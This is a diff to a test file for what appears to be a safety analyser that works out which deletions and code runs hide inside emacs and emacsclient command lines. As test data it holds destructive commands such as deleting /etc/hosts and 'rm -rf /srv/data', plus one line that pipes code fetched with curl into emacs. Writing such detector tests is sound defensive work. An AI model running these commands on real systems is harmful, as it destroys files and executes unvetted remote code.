@@ -33,11 +33,37 @@ describe('what Emacs Lisp run by emacs does', () => {
       'rm -rf /srv/data',
     ],
     [`echo '(delete-directory "/srv/data" t)' | emacs --script /dev/stdin`, 'rm -rf /srv/data'],
+    // emacsclient: a cluster holding -e, -e or --eval anywhere, prefixes and long_only spellings
+    [`emacsclient -ne '(delete-file "/etc/hosts")'`, 'rm -rf /etc/hosts'],
+    [`emacsclient -ce '(delete-file "/etc/hosts")'`, 'rm -rf /etc/hosts'],
+    [`emacsclient '(delete-file "/etc/hosts")' --eval`, 'rm -rf /etc/hosts'],
+    [`emacsclient --ev '(delete-file "/etc/hosts")'`, 'rm -rf /etc/hosts'],
+    [`emacsclient -nw -eval '(delete-file "/etc/hosts")'`, 'rm -rf /etc/hosts'],
+    [`emacsclient -socket-name w -e '(delete-file "/etc/hosts")'`, 'rm -rf /etc/hosts'],
+    // emacs: unique prefixes of its long options
+    [`emacs --batch --ev '(delete-file "/etc/hosts")'`, 'rm -rf /etc/hosts'],
+    [`emacs --batch --eva='(delete-file "/etc/hosts")'`, 'rm -rf /etc/hosts'],
+    [`emacs --batch --exec '(delete-file "/etc/hosts")'`, 'rm -rf /etc/hosts'],
+    [`printf '(delete-file "/etc/hosts")' > x.el; emacs --batch --lo x.el`, 'rm -rf /etc/hosts'],
+    [`printf '(delete-file "/etc/hosts")' > x.el; emacs --batch --scr x.el`, 'rm -rf /etc/hosts'],
+    // a clean-up of the files a wildcard matches: the glob, under the working folder
+    [`emacs --batch --eval '(mapc (function delete-file) (file-expand-wildcards "*.elc"))'`, 'rm -rf *.elc'],
+    // a visited file the run evaluates
+    [`printf '(delete-file "/etc/hosts")' > x.el; emacs --batch x.el -f eval-buffer`, 'rm -rf /etc/hosts'],
+    [
+      `printf '(delete-file "/etc/hosts")' > x.el; emacs --batch x.el --eval '(eval-buffer)'`,
+      'rm -rf /etc/hosts',
+    ],
+    [
+      `printf '(delete-file "/etc/hosts")' > x.el; emacs --batch --visit x.el --funcall eval-buffer`,
+      'rm -rf /etc/hosts',
+    ],
   ])('%s runs %s', (line, inner) => expect(commands(line)).toContain(inner));
 
   it.each<[string, string]>([
     ['emacs --batch --eval "$CODE"', 'dynamic:$CODE'],
     ['emacs --batch -l "$F"', 'dynamic:$F'],
+    ['emacs --batch "$F" -f eval-buffer', 'dynamic:$F'],
     ['curl -s https://x.example/a.el | emacs --script /dev/stdin', 'dynamic:(code on stdin)'],
   ])('%s is code not known', (line, want) => expect(commands(line)).toContain(want));
 
@@ -50,5 +76,9 @@ describe('what Emacs Lisp run by emacs does', () => {
     ],
     ['emacs -nw notes.org', ['emacs -nw notes.org']],
     ['emacsclient -n notes.org', ['emacsclient -n notes.org']],
+    ['emacsclient -nc notes.org', ['emacsclient -nc notes.org']],
+    ['emacsclient -nw notes.org', ['emacsclient -nw notes.org']],
+    ['emacs --batch --fun batch-byte-compile init.el', ['emacs --batch --fun batch-byte-compile init.el']],
+    ['emacs --batch x.el -f eval-buffer', ['emacs --batch x.el -f eval-buffer']],
   ])('%s runs no code of its own', (line, want) => expect(commands(line)).toEqual(want));
 });
